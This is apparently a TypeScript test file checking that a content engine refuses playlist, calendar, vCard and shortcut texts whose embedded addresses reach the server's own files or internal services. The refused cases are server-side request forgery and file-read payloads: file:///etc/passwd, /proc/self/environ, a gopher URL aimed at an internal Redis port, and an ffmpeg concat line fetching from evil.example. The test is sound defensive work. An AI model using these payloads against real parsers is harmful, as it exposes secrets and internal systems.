// Lists of addresses, each fetched by whoever reads the list: films, calendars, cards, shortcuts. What leads to the server's
// own files is refused; what people's programs write passes.

import { describe, expect, test } from 'vitest'

import { coreEngine } from '../corpora/program.ts'

const engine = coreEngine()

const lines = (...all: readonly string[]): string => all.join('\n')

describe('an address within a list of addresses', () => {
  test.each([
    lines('#EXTM3U', '#EXT-X-KEY:METHOD=AES-128,URI="file:///etc/passwd"', '#EXTINF:10,', 'a.ts'),
    lines('#EXTM3U', '#EXTINF:10,', 'FILE:/etc/hostname'),
    lines('#EXTM3U', '#EXTINF:10,', 'concat:http://evil.example/h|subfile'),
    lines('BEGIN:VCALENDAR', 'BEGIN:VEVENT', 'ATTACH;FMTTYPE=text/plain:file:///proc/self/environ'),
    lines('BEGIN:VCARD', 'PHOTO;VALUE=URI:gopher://10.0.0.1:6379/_x', 'END:VCARD'),
    lines('[InternetShortcut]', 'URL=file:/etc/passwd'),
    lines('ffconcat version 1.0', "file 'file:///proc/self/environ'"),
  ])('is refused where it is the server’s own: %s', (text) => {
    expect(engine.text('json', 'value', 'body.items[0].note', text).refused).toBe(true)
  })

  test.each([
    lines('#EXTM3U', '#EXT-X-KEY:METHOD=AES-128,URI="https://keys.example/1"', '#EXTINF:10,', 'a.ts'),
    lines('BEGIN:VCALENDAR', 'ATTACH:file:///Users/ann/Documents/agenda.pdf', 'END:VCALENDAR'),
    lines('BEGIN:VCALENDAR', 'DESCRIPTION:links begin with http:// or file:', 'END:VCALENDAR'),
    lines('[InternetShortcut]', 'URL=https://example.com/'),
  ])('passes: %s', (text) => {
    expect(engine.text('json', 'value', 'body.items[0].note', text).refused).toBe(false)
  })
})
